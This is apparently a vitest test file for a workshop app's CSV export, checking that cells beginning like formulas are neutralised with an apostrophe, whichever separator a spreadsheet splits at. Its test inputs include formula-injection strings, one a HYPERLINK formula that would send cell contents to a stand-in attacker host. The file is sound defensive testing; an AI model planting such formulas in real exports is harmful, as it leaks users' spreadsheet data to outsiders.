/**
 * A register's CSV opened in a spreadsheet runs no formula, whatever separator the spreadsheet
 * splits at (issue 12 item 8: `Overleg;=1+1` reached Dutch Excel, which splits at `;`, as a
 * formula). The block texts are written over a real socket, as any member's client could.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { DOCUMENT_FRAGMENT } from '../../shared/editor/schema';
import { buildWorkshop, type Workshop } from '../helpers/apiClient';
import { blockElement } from '../helpers/documents';
import { connectProvider, eventually, waitForSync } from '../helpers/providers';
import { readCells } from '../helpers/spreadsheet';
import { startTestServer, type TestServer } from '../helpers/startTestServer';

let server: TestServer;
let workshop: Workshop;
beforeAll(async () => {
  server = await startTestServer();
  workshop = await buildWorkshop(server.origin);
});
afterAll(async () => server.stop());

const texts = ['Overleg;=1+1', '=HYPERLINK("https://aanvaller.example/?d="&A1;"klik")', 'Huur,@SUM(1+1)', 'Budget\t-2+3', '+31 6 12345678'];

const action = (id: string, text: string) => blockElement('action', { id, status: 'open', funding: 'unknown', due: '2027-05-01' }, text);

test('no cell of the actions CSV starts a formula when read with , ; or tab as separator; every text comes back, with an apostrophe before each formula', async () => {
  const { owner, workspaceId, documentId } = workshop;
  const client = connectProvider(documentId, { cookie: owner.cookie, origin: server.origin });
  await waitForSync(client.provider);
  client.doc.getXmlFragment(DOCUMENT_FRAGMENT).insert(0, texts.map((text, i) => action(`csv-${i}`, text)));
  await eventually(async () => expect((await owner.get(`/api/workspaces/${workspaceId}/actions`)).body).toHaveLength(texts.length));
  client.provider.destroy();

  const res = await owner.get(`/api/workspaces/${workspaceId}/actions?format=csv`);
  expect(res.status).toBe(200);
  const csv = String(res.body);
  for (const separator of [',', ';', '\t']) {
    const cells = readCells(csv, separator).flat();
    expect(cells.filter((value) => /^(?:[\t\r]|\s*[=+\-@])/.test(value)), `separator ${JSON.stringify(separator)}`).toEqual([]);
  }
  const rows = readCells(csv, ',');
  const textColumn = rows[0]!.indexOf('text');
  const read = rows.slice(1).map((row) => row[textColumn]!);
  expect(read).toContain("Overleg;'=1+1");
  // Nothing but the apostrophes was added, nothing taken away.
  expect(read.map((t) => t.replace(/'/g, '')).sort()).toEqual([...texts].sort());
});
